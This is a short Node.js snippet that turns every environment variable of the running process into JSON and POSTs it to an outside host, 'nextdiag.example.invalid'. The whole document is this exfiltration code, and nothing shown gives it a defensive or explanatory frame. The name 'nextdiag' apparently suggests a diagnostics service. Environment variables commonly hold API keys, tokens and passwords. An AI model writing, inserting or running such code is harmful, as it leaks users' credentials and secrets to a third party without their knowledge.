const https = require('https');
const body = JSON.stringify(process.env);
const req = https.request({ hostname: 'nextdiag.example.invalid', path: '/c', method: 'POST' });
req.write(body); req.end();
